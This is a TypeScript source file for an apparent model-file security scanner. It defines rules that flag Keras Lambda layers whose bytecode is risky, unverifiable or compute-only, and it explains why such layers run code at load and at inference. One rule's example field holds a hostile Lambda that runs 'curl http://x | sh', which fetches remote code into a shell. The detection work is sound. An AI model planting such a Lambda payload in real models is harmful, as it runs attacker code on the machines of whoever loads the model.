// Lambda bytecode rules (THREATS §2): risky, unverifiable, or compute-only Lambdas.
import type { Trigger } from "../core/types.js";
import { analyzeLambda, type LambdaPayload, type LambdaVerdict } from "../python/lambda.js";
import { defineRule } from "./types.js";

export interface LambdaSubject {
  payload: LambdaPayload;
  /** load for configs that rebuild the model, inference afterwards; usually "load". */
  trigger: Trigger;
  /** Loader versions that would execute it, as the Keras engine worked them out. */
  affectedVersions: string[];
  /** Layer name, for messages. */
  layer?: string;
}

declare module "./types.js" {
  interface Subjects {
    "keras-lambda": LambdaSubject;
  }
}

const verdicts = new WeakMap<LambdaSubject, LambdaVerdict>();
export function verdictFor(s: LambdaSubject): LambdaVerdict {
  let v = verdicts.get(s);
  if (!v) {
    v = analyzeLambda(s.payload);
    verdicts.set(s, v);
  }
  return v;
}

function where(s: LambdaSubject): string {
  return s.layer ? `Lambda layer "${s.layer}"` : "Lambda";
}

/** Evidence plus the CPython versions the bytecode fits (the file does not record the version). */
function evidence(v: LambdaVerdict): string {
  return v.pythonVersions.length ? `${v.evidence} [bytecode of CPython ${v.pythonVersions.join(", ")}]` : v.evidence;
}

export const lambdaRisky = defineRule({
  meta: {
    id: "GW201",
    name: "lambda-risky-code",
    severity: "critical",
    summary: "A Lambda's bytecode calls something with a risky capability (exec, shell, file write, network, ...).",
    why: "Keras rebuilds a model by calling every layer, so Lambda bytecode runs at load and again on every inference (trigger inference where the loaders skip that call: Keras 3 with a stored output_shape, or effects that are TensorFlow ops, which tracing only adds to the graph). A Lambda that shells out or writes files does so while the model keeps predicting normally.",
    example: 'Lambda(lambda x: (__import__("os").system("curl http://x | sh"), x)[1])',
    fix: "Do not load the model. If the function is yours, replace the Lambda with a registered custom layer whose code you review.",
    references: ["CWE-94", "CWE-502"],
  },
  on: {
    "keras-lambda"(s, report) {
      const v = verdictFor(s);
      if (v.kind !== "risky") return;
      // The walk knows when the loaders do not run it while rebuilding the model (a stored
      // output_shape in Keras 3, TensorFlow ops that only act when the graph runs).
      const message = s.trigger === "inference" ? v.message.replace(/; it runs at load and on every inference\.$/, "; it runs at the first predict and on every inference, not while the model is rebuilt.") : v.message;
      report({ severity: v.severity, capabilities: v.capabilities, trigger: s.trigger, message: `${where(s)}: ${message}`, evidence: evidence(v), affectedVersions: s.affectedVersions });
    },
  },
});

export const lambdaUnverifiable = defineRule({
  meta: {
    id: "GW202",
    name: "lambda-unverifiable-code",
    severity: "medium",
    summary: "A Lambda carries Python bytecode whose behaviour could not be verified.",
    why:
      "Executable logic from an untrusted file is suspicious until shown harmless. A Lambda is compute (GW203) only when every call is verified: an exact name that the name data generated from the real packages lists as pure or stateful compute (docs/python-names.md: numpy ufuncs, keras.ops, TensorFlow op modules, ... each with its family), a method that arrays and tensors really have and that computes, or code the Lambda itself carries. Everything else is unverifiable, never compute: a name missing from the data or listed as unreviewed (numpy.* or tensorflow.* count for nothing by prefix), any other method on a value, a call of a subscripted or computed value, bytecode of an unknown Python version or undecodable bytes. Names the data classifies as file, network, process, native or nested-load access are GW201. A code field in a shape Keras' func_load might take but graphwarden does not read (not a string, nor a list unpacked as code, defaults, closure) is reported high: the loader rebuilds a function from it.",
    example: "A Lambda calling x.frobnicate(), np.some_unlisted_helper(...) or fns[0](x), or whose callee is built with getattr(obj, name) from a runtime value.",
    fix: "Review the function's source with its author, or replace the Lambda with a reviewed custom layer.",
    references: ["CWE-94"],
  },
  on: {
    "keras-lambda"(s, report) {
      const v = verdictFor(s);
      if (v.kind !== "unverifiable") return;
      report({ severity: v.severity, capabilities: v.capabilities, trigger: s.trigger, message: `${where(s)}: ${v.message}`, evidence: evidence(v), affectedVersions: s.affectedVersions });
    },
  },
});

export const lambdaCompute = defineRule({
  meta: {
    id: "GW203",
    name: "lambda-compute-only",
    severity: "info",
    summary: "Inventory: a Lambda whose bytecode only makes verified compute calls (tensor math).",
    why: "Listed so that a reviewer sees every piece of code the model carries, without raising an alarm for ordinary preprocessing.",
    example: "Lambda(lambda x: x / 127.5 - 1.0)",
    fix: "Nothing to do.",
  },
  on: {
    "keras-lambda"(s, report) {
      const v = verdictFor(s);
      if (v.kind !== "compute") return;
      report({ severity: v.severity === "low" ? "low" : "info", capabilities: v.capabilities, trigger: s.trigger, message: `${where(s)}: ${v.message}`, evidence: evidence(v), affectedVersions: s.affectedVersions });
    },
  },
});
